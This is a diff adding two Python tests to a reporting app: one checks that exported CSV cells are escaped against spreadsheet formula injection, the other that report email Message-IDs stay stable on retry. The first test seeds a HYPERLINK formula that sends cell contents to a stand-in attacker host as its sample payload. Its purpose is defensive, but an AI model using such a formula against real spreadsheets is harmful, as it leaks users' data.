@@ -357,6 +357,61 @@ async def test_schedule_sends_each_report_once_with_several_workers(
     )
 
 
+async def test_report_csv_cells_cannot_be_spreadsheet_formulas(
+    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, tmp_path: Path
+) -> None:
+    """utm_content comes from any visitor's form post; the CSV is opened in a spreadsheet."""
+    day = utcnow().date() - timedelta(days=1)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    await _lead(harness, "csv1@company.com", _at(day, 9), formula)
+    await _lead(harness, "csv2@company.com", _at(day, 10), "@SUM(1+1)")
+    out = tmp_path / "report.csv"
+    args = ["reports", "send", "--period", "daily", "--date", day.isoformat(), "--campaign", CAMPAIGN]
+    result = await _invoke(cli_app, [*args, "--dry-run", "--output", str(out)], _cli_env(harness, smtp))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    items = {r["item"] for r in rows if r["section"] == "content"}
+    assert items == {"'" + formula, "'@SUM(1+1)"}
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
+    assert _value(rows, "summary", "total_leads")[0] == "2"  # numbers stay numbers
+
+
+async def test_report_message_id_is_stable_on_retry_and_unique_per_installation(
+    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, settings: Any
+) -> None:
+    """The dedup key (period, scope, recipient) is the same in every installation: the Message-ID must
+    not be derived from it alone, or two installations' reports to one address share it."""
+    settings = settings.model_copy(update={"report_hour": 0, "report_periods": ["daily"]})
+
+    async def run(worker_id: str) -> None:
+        async with worker_context(harness.engine, settings, worker_id) as ctx:
+            await build_worker(ctx, poll_seconds=0.01).run_until_idle(30)
+
+    async def ids() -> dict[str, str]:
+        reports = [m.message() for m in smtp.messages if "report" in m.message()["Subject"]]
+        return {str(m["To"]) + "#" + str(n): str(m["Message-ID"]) for n, m in enumerate(reports)}
+
+    now = utcnow()
+    async with harness.engine.begin() as conn:
+        await jobs_repo.enqueue(conn, [slot(REPORTS_JOB, now)], now)
+    await run("w1")
+    first = list((await ids()).values())
+    assert len(first) == 1  # REPORT_EMAILS' manager (the campaign has no notification_emails)
+    # A retry of the same jobs sends the same ids.
+    await harness.execute("UPDATE jobs SET status = 'pending' WHERE kind = 'reports.send'")
+    await run("w2")
+    retried = list((await ids()).values())[1:]
+    assert retried == first
+    # Another installation: the same period, scope and recipients (so the same dedup keys), new ids.
+    await harness.execute("DELETE FROM jobs")
+    async with harness.engine.begin() as conn:
+        await jobs_repo.enqueue(conn, [slot(REPORTS_JOB, now)], now)
+    await run("w3")
+    other = list((await ids()).values())[2:]
+    assert len(other) == 1 and not set(other) & set(first)
+
+
 def test_due_periods_in_a_time_zone() -> None:
     zone = ZoneInfo("Europe/Berlin")
     # Tuesday 2026-12-01 06:30 local: the daily report of Sunday is the newest due before 07:00.
